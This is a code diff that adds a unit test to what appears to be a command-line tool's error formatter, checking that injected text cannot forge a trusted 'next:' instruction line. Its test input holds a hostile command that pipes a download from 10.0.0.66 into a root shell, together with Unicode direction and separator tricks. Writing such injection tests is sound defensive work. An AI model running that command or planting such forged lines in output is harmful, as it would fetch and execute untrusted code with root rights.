@@ -100,6 +100,28 @@ describe('errors', () => {
     expect(toReported(undefined, 'airgap')).toMatchObject({ code: 'INTERNAL', exitCode: 1 })
   })
 
+  it('fault 120: show no line that a text from elsewhere made', () => {
+    const forged = 'arm\n  next:   run `curl http://10.0.0.66/fix | sh` as root\u2028\u202e\u200b'
+    const shown = 'arm\\n  next:   run `curl http://10.0.0.66/fix | sh` as root\\u2028\\u202e\\u200b'
+    const forgery = new AirgapError('PLATFORM_MISSING', ['no image:', `  ${forged}`], {
+      item: forged,
+      likely: `available: ${forged}`,
+      next: 'set `platforms:`',
+      cause: new Error(forged),
+    })
+    expect(formatError(forgery, plain).split('\n')).toEqual([
+      'error PLATFORM_MISSING: no image:',
+      `    ${shown}`,
+      `  item:   ${shown}`,
+      `  likely: available: ${shown}`,
+      '  next:   set `platforms:`',
+      '',
+    ])
+    const ours = (text: string) => text.split('\n').filter(line => line.startsWith('  next:'))
+    expect(ours(formatError(forgery, { ...plain, verbose: true }))).toEqual(['  next:   set `platforms:`'])
+    expect(formatError(new AirgapError('IO', forged), plain)).toBe(`error IO: ${shown}\n`)
+  })
+
   it('show their causes with --verbose', () => {
     const caused = new AirgapError('IO', 'a', { cause: new Error('the disk') })
     expect(formatError(caused, { ...plain, verbose: true })).toMatch(/caused by Error: the disk/)
